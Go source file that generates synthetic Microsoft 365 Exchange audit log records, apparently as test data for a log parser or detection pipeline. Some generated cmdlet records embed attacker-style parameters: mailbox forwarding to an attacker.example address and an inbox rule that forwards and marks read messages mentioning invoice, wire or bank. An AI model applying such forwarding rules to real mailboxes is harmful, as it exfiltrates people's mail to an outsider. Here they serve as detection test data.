package emulator

import (
	"encoding/json"
	"fmt"
)

var exchangeRecords = []weighted{{35, (*maker).cmdlet}, {30, (*maker).mailItem}, {20, (*maker).mailAccess}, {15, (*maker).mailGroup}}

var cmdlets = []string{
	"Set-Mailbox", "New-InboxRule", "Set-InboxRule", "Remove-InboxRule", "Add-MailboxPermission", "Set-TransportRule", "New-TransportRule",
	"Set-ConditionalAccessPolicy", "Set-CASMailbox", "Set-OwaMailboxPolicy", "Set-AdminAuditLogConfig", "Install-DataClassificationConfig", "Set-MailboxPlan", "UpdateInboxRules",
}

func (m *maker) cmdlet() object {
	var ip string
	if m.chance(0.2) {
		ip = m.address()
	}
	owner := m.user()
	o := m.common(head{kind: 1, workload: "Exchange", operation: pick(m, cmdlets...), object: owner.upn, result: pick(m, "True", "True", "TRUE", "False"), ip: ip})
	o = append(o, object{
		{"AppId", ""},
		{"ClientAppId", ""},
		{"ExternalAccess", m.chance(0.5)},
		{"OrganizationName", m.domain},
		{"OriginatingServer", "AM0PR0" + fmt.Sprint(m.random.IntN(9)) + "MB1234 (15.20.4867.012)" + pick(m, "", "", "\r\n")},
		{"SessionId", m.guid()},
	}...)
	if m.chance(0.1) {
		return append(o, field{"Parameters", fmt.Sprintf(`-Identity "%s" -ForwardingSmtpAddress "smtp:x@attacker.example"`, owner.upn)})
	}
	return append(o, field{"Parameters", nameValues("Identity", owner.upn, "Name", "Prüfung ✓", "ForwardTo", "smtp:copy@attacker.example", "MarkAsRead", "True", "SubjectContainsWords", "invoice;wire;bank", "StopProcessingRules", "False")})
}

// mailbox is what the records about mailboxes have in common.
func (m *maker) mailbox(h head) object {
	owner := m.user()
	h.workload, h.result = "Exchange", pick(m, "Succeeded", "Succeeded", "PartiallySucceeded")
	o := m.common(h)
	return append(o, object{
		{"ClientIPAddress", m.mailAddress()},
		{"ClientInfoString", pick(m, "Client=MSExchangeRPC", "Client=OWA;Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)", "Client=REST;Client=RESTSystem;;", "Client=ActiveSync;iOS/18.1")},
		{"ClientProcessName", pick(m, "OUTLOOK.EXE", "olk.exe")},
		{"ClientVersion", "16.0.17928.20216"},
		{"ExternalAccess", false},
		{"InternalLogonType", 0},
		{"LogonType", m.random.IntN(3)},
		{"LogonUserSid", "S-1-5-21-1111111111-2222222222-3333333333-" + fmt.Sprint(1000+m.random.IntN(9000))},
		{"MailboxGuid", m.guid()},
		{"MailboxOwnerSid", "S-1-5-21-1111111111-2222222222-3333333333-" + fmt.Sprint(1000+m.random.IntN(9000))},
		{"MailboxOwnerUPN", owner.upn},
		{"OrganizationName", m.domain},
		{"OriginatingServer", "DB7PR04MB5555 (15.20.8093.013)\r\n"},
		{"SessionId", m.guid()},
	}...)
}

func (m *maker) mailAddress() any {
	if m.chance(0.1) {
		return pick[any](m, "EXCH01 (10.90.0.1)", "[EXCH01 (10.9000.0.1)]", "", nil)
	}
	return m.address()
}

func (m *maker) messageID() string {
	return fmt.Sprintf("<AM0PR04MB%016X@AM0PR04MB%04d.eurprd04.prod.outlook.com>", m.random.Uint64(), m.random.IntN(10000))
}

func (m *maker) mailItem() object {
	o := m.mailbox(head{kind: 2, operation: pick(m, "Create", "Send", "Update", "SendAs", "SendOnBehalf", "HardDelete")})
	item := object{
		{"Id", "RgAAAAD" + filler(m.random, 60)},
		{"InternetMessageId", m.messageID()},
		{"ParentFolder", object{{"Id", "LgAAAAA" + m.guid()}, {"Path", pick(m, `\Inbox`, `\Drafts`, `\Gesendete Elemente`, `\受信トレイ`)}}},
		{"SizeInBytes", 1000 + m.random.IntN(900000)},
		{"Subject", pick(m, "Rechnung \u20ac 1.200", `RE: "quarterly" <figures>`, "日報", "Meeting notes \U0001F4DD")},
	}
	if m.chance(0.3) {
		item = append(item, field{"Attachments", "report.xlsx (81920b); image001.png (8192b)"})
	}
	o = append(o, field{"Item", item})
	if m.chance(0.3) {
		o = append(o, field{"ModifiedProperties", list{"RecipientTable", "Subject", "AllAttachmentsHidden"}})
	}
	return o
}

func (m *maker) mailAccess() object {
	o := m.mailbox(head{kind: 50, operation: "MailItemsAccessed"})
	var items list
	for range 1 + m.random.IntN(4) {
		items = append(items, object{{"InternetMessageId", m.messageID()}, {"SizeInBytes", 1000 + m.random.IntN(90000)}})
	}
	folder := object{{"FolderItems", items}, {"Id", "LgAAAABX" + m.guid()}, {"Path", `\Inbox`}}
	return append(o, object{
		{"OperationProperties", nameValues("MailAccessType", pick(m, "Bind", "Sync"), "IsThrottled", "False")},
		{"Folders", list{folder}},
		{"OperationCount", len(items)},
	}...)
}

func (m *maker) mailGroup() object {
	o := m.mailbox(head{kind: 3, operation: pick(m, "MoveToDeletedItems", "SoftDelete", "HardDelete", "Move")})
	affected := list{}
	for range 1 + m.random.IntN(3) {
		affected = append(affected, object{{"Id", "RgAAAAD" + m.guid()}, {"InternetMessageId", m.messageID()}, {"ParentFolder", object{{"Id", m.guid()}, {"Path", `\Inbox`}}}, {"Subject", `caf\u00e9`}})
	}
	return append(o, object{
		{"AffectedItems", affected},
		{"CrossMailboxOperation", false},
		{"Folder", object{{"Id", m.guid()}, {"Path", `\Inbox`}}},
		{"DestFolder", json.RawMessage(`{"Id":"LgAAAAB","Path":"\\Gel\u00f6schte Elemente"}`)},
	}...)
}
